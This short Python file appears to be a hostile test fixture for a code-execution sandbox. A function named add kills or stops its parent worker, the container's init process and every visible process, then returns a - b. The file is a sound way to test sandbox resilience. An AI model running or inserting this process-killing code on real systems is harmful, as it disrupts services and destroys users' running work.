"""Kills its parent (the worker), PID 1 (the container's init) and stops everything else it can see."""
import os
import signal


def add(a, b):
    me = os.getpid()
    for sig in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        for target in (os.getppid(), 1):
            try:
                os.kill(target, sig)
            except OSError:
                pass
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) != me:
                try:
                    os.kill(int(pid), sig)
                except OSError:
                    pass
    return a - b
